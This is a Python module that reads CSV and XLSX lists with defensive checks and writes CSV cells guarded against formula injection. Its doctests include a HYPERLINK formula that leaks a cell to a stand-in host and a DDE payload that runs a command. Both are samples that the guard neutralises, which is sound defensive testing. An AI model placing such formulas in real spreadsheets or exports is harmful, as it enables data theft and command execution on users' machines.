"""The one reader of tables from outside (CSV, XLSX) and the one CSV writer, for every list.

Activity lists, member lists and whatever list comes later are read here, so each gets the same
defences:

- the content decides how a file is read, by its first bytes (a zip is a workbook, ``%PDF`` a
  PDF, an OLE2 header a legacy ``.xls``), not its suffix: an XLSX named ``.csv`` is read as a
  workbook with a warning instead of failing as "malformed CSV";
- text is tried as UTF-16 (with a BOM), UTF-8, cp1252 then latin-1, with a warning past UTF-8;
  CR-only, LF and CRLF line ends are all rows ends;
- files over ``MAX_BYTES``, more than ``MAX_ROWS`` rows or ``MAX_COLUMNS`` columns are refused
  or cut with a "too large" message; formulas are never evaluated (cached values only);
- a title row above the header (a merged title cell in a workbook, one lone cell in a CSV) is
  skipped with a warning, and header names that occur twice are listed, so the caller can refuse
  to guess which column holds a field (:func:`column_index`);
- :func:`read_sheets` reads each file in a worker process with a time limit and a memory cap.

The writer (:func:`write_csv`) quotes every field holding a CR or LF (RFC 4180 row ends, so a
spreadsheet never splits a cell into a new row) and guards formulas (:func:`safe_cell`).
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any, Iterable

from miner.errors import InputError, UsageError
from miner.nlp.text import strip_accents
from miner.read.isolate import Limits, read_each

__all__ = [
    "Sheet",
    "read_sheet",
    "read_sheets",
    "sniff_kind",
    "decode_text",
    "column_index",
    "normalise_header",
    "safe_cell",
    "write_csv",
    "MAX_BYTES",
    "MAX_ROWS",
    "MAX_COLUMNS",
]

MAX_BYTES = 50 * 1024 * 1024
"""Largest list read: a cluster's list is a few hundred rows, well under 1 MB."""
MAX_ROWS = 100_000
"""Most rows read: a hundred times the longest real list; a million-row file is refused, not read."""
MAX_COLUMNS = 500
"""Most columns kept per row: a sheet claiming 16,384 columns is cut, not expanded."""
SNIFF_CHARS = 4096
"""Characters of a CSV the delimiter is guessed from: a header and a few dozen rows."""

TABLE_KINDS = {"csv", "xlsx"}


@dataclass
class Sheet:
    """A table as read: header, rows of text cells, and what the reader had to say about it."""

    path: str
    header: list[str]
    rows: list[list[str]]
    kind: str = "csv"
    sheet: str | None = None
    header_row: int = 1
    """1-based row of the header in the file (2 when a title row was skipped)."""
    duplicates: dict[str, list[int]] = field(default_factory=dict)
    """Normalised header names found more than once → their 0-based column indexes."""
    warnings: list[str] = field(default_factory=list)
    caption: str = ""
    """The title row above the header, if any ("Activités du Cluster Bois 2023"): it may name the list's cluster."""


def normalise_header(name: Any) -> str:
    """A header as compared: lower case, no accents, underscores as spaces, spaces collapsed."""
    return " ".join(strip_accents(str(name or "")).casefold().replace("_", " ").split())


def sniff_kind(path: Path, head: bytes) -> str:
    """ "xlsx", "pdf", "csv" from the first bytes; a legacy workbook is refused with what to do."""
    if head.startswith(b"PK\x03\x04"):
        return "xlsx"
    if head.startswith(b"%PDF-"):
        return "pdf"
    if head.startswith(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"):
        raise InputError(path, "a legacy Excel .xls workbook (OLE2); save it as .xlsx or .csv")
    return "csv"


def decode_text(raw: bytes) -> tuple[str, str | None]:
    """Text of a CSV and a warning when it was not UTF-8.

    >>> decode_text("Activité".encode("cp1252"))
    ('Activité', 'not UTF-8: read as cp1252 (Windows Western European); check accented letters')
    >>> decode_text(b"\\xef\\xbb\\xbfid")[0]
    'id'
    >>> decode_text(b"Soci\\x81t\\xe9")[1]  # 0x81 is undefined in cp1252
    'not UTF-8 nor cp1252: read as latin-1; check accented letters'
    """
    if raw.startswith((b"\xff\xfe", b"\xfe\xff")):
        try:
            return raw.decode("utf-16"), None
        except UnicodeDecodeError:
            pass
    try:
        return raw.decode("utf-8-sig"), None
    except UnicodeDecodeError:
        pass
    try:
        return raw.decode("cp1252"), "not UTF-8: read as cp1252 (Windows Western European); check accented letters"
    except UnicodeDecodeError:
        return raw.decode("latin-1"), "not UTF-8 nor cp1252: read as latin-1; check accented letters"


def _clean_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        value = int(value)
    if hasattr(value, "isoformat"):
        value = value.isoformat()
        value = value[:10] if value.endswith("T00:00:00") else value
    return str(value)


def _too_many(path: Path, rows: list[Any]) -> None:
    if len(rows) > MAX_ROWS:
        raise InputError(path, f"too large: more than {MAX_ROWS} rows; split the list")


def _csv_rows(path: Path, raw: bytes, warnings: list[str]) -> list[list[str]]:
    text, warning = decode_text(raw)
    if warning:
        warnings.append(warning)
    text = text.replace("\x00", "")
    sample = "\n".join(text[:SNIFF_CHARS].splitlines())  # the sniffer splits rows on LF only
    try:
        dialect = csv.Sniffer().sniff(sample, delimiters=",;\t")
    except csv.Error:
        dialect = csv.excel
    rows: list[list[str]] = []
    try:
        # newline="": rows end at CR, LF or CRLF, and a quoted cell keeps its own line breaks.
        for row in csv.reader(io.StringIO(text, newline=""), dialect):
            _too_many(path, rows)
            rows.append(row[:MAX_COLUMNS])
    except csv.Error as exc:
        raise InputError(path, f"malformed CSV, line {len(rows) + 1}: {exc}") from None
    return rows


def _one_line(exc: Exception) -> str:
    """openpyxl's messages run over several lines; an error is one line."""
    return " ".join(str(exc).split())[:300]


def _xlsx_rows(path: Path, raw: bytes, sheet: str | None) -> tuple[list[list[str]], str]:
    import openpyxl

    try:
        # data_only: a formula cell gives the value cached by the program that saved it; nothing is
        # evaluated. openpyxl parses the workbook's XML with defusedxml when it is installed.
        # The bytes, not the name: openpyxl would refuse a workbook by its suffix alone.
        book = openpyxl.load_workbook(io.BytesIO(raw), read_only=True, data_only=True)
    except Exception as exc:  # noqa: BLE001 - openpyxl raises many types for a broken file
        raise InputError(path, f"cannot read as XLSX ({type(exc).__name__}: {_one_line(exc)})") from None
    try:
        names = book.sheetnames
        if sheet is None and len(names) > 1:
            raise UsageError(
                f"{path}: the workbook has {len(names)} sheets ({', '.join(names)}); choose one with --sheet"
            )
        if sheet is not None and sheet not in names:
            raise UsageError(f"{path}: no sheet {sheet!r}; sheets found: {', '.join(names)}")
        ws = book[sheet or names[0]]
        # a sheet that says it holds more rows than the cap is refused before any row is parsed;
        # one that says less (or nothing) is still counted row by row below
        claimed = ws.max_row
        if isinstance(claimed, int) and claimed > MAX_ROWS + 1:  # + 1: the header row
            raise InputError(
                path,
                f"too large: the sheet says it holds {claimed} rows (more than {MAX_ROWS}); "
                "split the list, or save it again if it holds fewer",
            )
        ws.reset_dimensions()  # then read every row there is, not the range the file claims
        rows: list[list[str]] = []
        for row in ws.iter_rows(values_only=True, max_col=MAX_COLUMNS):
            _too_many(path, rows)
            rows.append([_clean_cell(v) for v in row])
        return rows, ws.title
    except (InputError, UsageError):
        raise
    except Exception as exc:  # noqa: BLE001 - a damaged sheet raises XML, zip or value errors while streaming
        raise InputError(path, f"cannot read as XLSX ({type(exc).__name__}: {_one_line(exc)})") from None
    finally:
        book.close()


def _filled(row: list[str]) -> int:
    return sum(1 for cell in row if cell.strip())


def read_sheet(path: str | Path, *, sheet: str | None = None) -> Sheet:
    """Read a CSV or XLSX list here (see :func:`read_sheets` for the isolated reading)."""
    path = Path(path)
    try:
        size = path.stat().st_size
        if size > MAX_BYTES:
            raise InputError(path, f"too large: {size / 2**20:.0f} MB (limit {MAX_BYTES // 2**20} MB); split the list")
        raw = path.read_bytes()
    except OSError as exc:
        raise InputError(path, f"cannot read ({exc.strerror or exc})") from None
    kind = sniff_kind(path, raw[:8])
    warnings: list[str] = []
    suffix = path.suffix.lower()
    named = "xlsx" if suffix in (".xlsx", ".xlsm") else "pdf" if suffix == ".pdf" else "csv"
    if named == "xlsx" and kind == "csv":
        raise InputError(
            path,
            "cannot read as XLSX: the content is not a zip archive (a CSV renamed? "
            "save it again as .xlsx, or name it .csv)",
        )
    if kind != named:
        warnings.append(f"named {suffix or 'without suffix'} but its content is {kind.upper()}: read as {kind.upper()}")
    if kind == "pdf":
        raise InputError(path, "a PDF, not a table; lists are read from .csv or .xlsx")
    title = None
    if kind == "xlsx":
        rows, title = _xlsx_rows(path, raw, sheet)
    else:
        rows = _csv_rows(path, raw, warnings)
    start = next((i for i, row in enumerate(rows) if _filled(row)), None)
    if start is None:
        raise InputError(path, "empty file: no header row" if kind == "csv" else f"sheet {title!r} is empty")
    following = next((row for row in rows[start + 1 :] if _filled(row)), None)
    caption = ""
    if _filled(rows[start]) == 1 and following is not None and _filled(following) >= 2:
        lone = next(c for c in rows[start] if c.strip())
        caption = lone.strip()
        warnings.append(
            f"row {start + 1} ({lone.strip()[:60]!r}) is a title above the table (one cell, "
            f"merged or alone); the header is read from row {start + 2}"
        )
        start = rows.index(following, start + 1)
    header = [h.strip() for h in rows[start]]
    width = max(i + 1 for i, h in enumerate(header) if h)
    body = [r[:width] + [""] * (width - len(r[:width])) for r in rows[start + 1 :]]
    while body and not any(c.strip() for c in body[-1]):
        body.pop()  # formatted but empty trailing rows
    header = header[:width]
    seen: dict[str, list[int]] = {}
    for index, name in enumerate(header):
        if name:
            seen.setdefault(normalise_header(name), []).append(index)
    duplicates = {name: where for name, where in seen.items() if len(where) > 1}
    for where in duplicates.values():
        warnings.append(
            f"column name {header[where[0]]!r} occurs {len(where)} times (columns "
            f"{', '.join(str(i + 1) for i in where)})"
        )
    return Sheet(str(path), header, body, kind, title, start + 1, duplicates, warnings, caption)


def column_index(table: Sheet, name: str) -> int:
    """The column whose normalised header is ``name``; two such columns are an error, not a guess."""
    key = normalise_header(name)
    if key in table.duplicates:
        where = ", ".join(str(i + 1) for i in table.duplicates[key])
        raise InputError(
            table.path,
            f"{len(table.duplicates[key])} columns are named {name!r} (columns {where}); "
            "rename or remove one so it is clear which to read",
        )
    return [normalise_header(h) for h in table.header].index(key)


def _worker(sheet: str | None) -> Any:
    def work(key: str) -> str:
        try:
            return json.dumps({"sheet": asdict(read_sheet(key, sheet=sheet))}, ensure_ascii=False)
        except UsageError as exc:
            return json.dumps({"usage": str(exc)})

    return work


def read_sheets(
    paths: Iterable[str | Path], *, sheet: str | None = None, limits: Any = None
) -> list[tuple[Path, Sheet | None, str | None]]:
    """Read many lists, each in its own worker: (path, sheet, None) or (path, None, one-line error).

    A :class:`UsageError` (a workbook needing ``--sheet``) is raised: it is the caller's to fix.
    """
    limits = limits or Limits(timeout=60.0, max_memory_mb=1024, jobs=1)
    return read_each(_worker(sheet), paths, limits, lambda data: Sheet(**data["sheet"]))


# ---------------------------------------------------------------- writing

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?%?")


def safe_cell(value: Any) -> Any:
    """A cell for a CSV or XLSX that a spreadsheet will show as text, never run as a formula.

    Text starting with ``= + - @`` (or a tab or a line break) gets a leading apostrophe, the
    usual guard against formula injection; numbers and other values are left as they are.

    >>> print(safe_cell('=HYPERLINK("http://x/?"&A1, "clic")'))
    '=HYPERLINK("http://x/?"&A1, "clic")
    >>> safe_cell("-0.25"), safe_cell(3), safe_cell("Atelier")
    ('-0.25', 3, 'Atelier')
    """
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def write_csv(header: list[str], rows: Iterable[Iterable[Any] | dict[str, Any]], *, excel: bool = False) -> str:
    r"""CSV text: rows end in CRLF and any field holding CR or LF is quoted (so a cell with a
    bare CR stays one cell), and every cell is guarded against formulas. ``excel``: as a
    French-locale Excel opens it (``;`` between fields, decimal commas, a byte-order mark so it
    reads UTF-8).

    >>> write_csv(["name"], [["x\r=cmd|' /C calc'!A0"]])
    'name\r\n"x\r=cmd|\' /C calc\'!A0"\r\n'
    >>> write_csv(["n", "score"], [[3, 0.25]], excel=True)
    '\ufeffn;score\r\n3;0,25\r\n'
    """
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=";" if excel else ",", lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        values = [row.get(h, "") for h in header] if isinstance(row, dict) else list(row)
        cells = [safe_cell(v) for v in values]
        writer.writerow([repr(c).replace(".", ",") if excel and isinstance(c, float) else c for c in cells])
    return ("\ufeff" if excel else "") + buffer.getvalue()
